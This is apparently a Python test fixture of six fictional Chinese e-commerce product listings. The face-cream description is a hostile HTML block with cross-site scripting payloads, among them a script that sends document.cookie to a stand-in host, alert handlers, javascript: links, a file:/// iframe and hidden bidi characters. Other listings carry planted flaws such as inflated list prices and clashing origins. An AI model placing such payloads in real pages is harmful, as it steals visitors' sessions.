"""Owns the words of the six products, as their shops wrote them."""

from __future__ import annotations

from typing import Any

_HOSTILE = """<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://wide-net.example/w.png)">
<h2 onmouseover="alert(1)">棠妍 海棠保湿面霜 50g</h2>
<p>海棠提取液，质地轻润。业内最\u200b佳\u200b的保湿面霜，干皮油皮都能用。</p>
<script>new Image().src='https://wide-net.example/c?'+document.cookie</script>
<img src="https://wide-net.example/pixel.gif" width="1" height="1"><img src="x" onerror="alert(2)">
<p><a href="javascript:alert('成分')">成分表</a> <a href="data:text/html;base64,PGI+aGk8L2I+">检测报告</a></p>
<iframe src="file:///etc/hostname"></iframe><style>@import url(https://wide-net.example/s.css);</style>
<p>批号 \u202egpj.001-83A\u202c，\u2066见瓶底\u2069。</p>
<table><tr><td>净含量</td><td>50g</td></tr><tr><td>保质期</td><td>3年</td></tr></table>
</div>"""

TEA: dict[str, Any] = {
    "name": "雾岭 云雾绿茶 全网第一 国家级品质 100g 罐装",
    "sku": "DM-5201-01",
    "brand": "雾岭",
    "category": ["食品", "茶叶", "绿茶"],
    "description": "雾岭海拔八百米茶园，明前采摘。茶汤清亮，有兰花香。锡罐密封，送礼自饮都合适。",
    "price": "68.00",
    "list_price": "78.00",
    "currency": "CNY",
    "unit": "罐",
    "attributes": {"等级": "一级", "净含量": "100g", "保质期": "18个月", "贮存": "密封、避光、干燥"},
    "origin": "岚州市雾岭区",
    "ship_from": "岚州市",
}

VASE: dict[str, Any] = {
    "name": "青窑记 手绘青瓷梅瓶 28cm 家居摆件",
    "sku": "DM-5202-01",
    "brand": "青窑记",
    "category": ["居家", "家饰", "花瓶"],
    "description": "手绘团花，釉面温润。每只纹样略有不同。含底座，花枝另购。",
    "price": "128.00",
    "list_price": "1680.00",
    "currency": "CNY",
    "unit": "件",
    "attributes": {"材质": "陶瓷", "高度": "28cm", "口径": "6cm", "工艺": "釉下手绘"},
    "origin": "岚州市窑湾区",
    "ship_from": "岚州市",
}

FAN: dict[str, Any] = {
    "name": "拂风 台式电风扇 强劲三档 静音摇头 23cm",
    "sku": "DM-5203-01",
    "brand": "拂风",
    "category": ["家用电器", "电风扇", "台扇"],
    "description": "强劲三档风，卧室书房都能用。插电即用，线长1.6米。一年保修。",
    "price": "139.00",
    "list_price": "159.00",
    "currency": "CNY",
    "unit": "台",
    "attributes": {"额定电压": "220V", "额定功率": "28W", "扇叶直径": "230mm", "3C证书编号": "申请中"},
    "origin": "澄湖市",
    "ship_from": "澄湖市",
}

CREAM: dict[str, Any] = {
    "name": "棠妍 海棠保湿面霜\u200b 50g \u202d(新包装)\u202c",
    "sku": "DM-5204-01",
    "brand": "棠妍",
    "category": ["美妆", "护肤", "面霜"],
    "description": _HOSTILE,
    "price": "89.00",
    "list_price": "99.00",
    "currency": "CNY",
    "unit": "瓶",
    "attributes": {"净含量": "50g", "肤质": "干性\u200d、中性", "备案编号": "样G妆网备字2026000000"},
    "origin": "澄湖市",
    "ship_from": "澄湖市",
}

KIWIS: dict[str, Any] = {
    "name": "New Zealand green kiwis, box of 12",
    "sku": "DM-5207-01",
    "brand": "Greenhill",
    "category": ["Food", "Fruit", "Kiwi"],
    "description": "Flown in from New Zealand orchards. Naturally sweet, ripe in three days. Refund for bruises.",
    "price": "49.90",
    "list_price": "56.00",
    "currency": "CNY",
    "unit": "box",
    "attributes": {"Count": "12", "Grown in": "Qingpo District, Mistford", "Storage": "2-8 °C"},
    "origin": "New Zealand",
    "ship_from": "Qingpo District, Mistford",
}

GLASSES: dict[str, Any] = {
    "name": "澄器 高硼硅玻璃量杯 两只装 最大容量500ml",
    "sku": "DM-5206-01",
    "brand": "澄器",
    "category": ["居家", "厨房", "量杯"],
    "description": "刻度清晰，最高耐温120℃，可进洗碗机。划线价为本店近七日成交价。",
    "price": "36.00",
    "list_price": "45.00",
    "currency": "CNY",
    "unit": "套",
    "attributes": {"最大容量": "500ml", "最高耐温": "120℃", "材质": "高硼硅玻璃", "数量": "2只"},
    "origin": "澄湖市",
    "ship_from": "澄湖市",
}
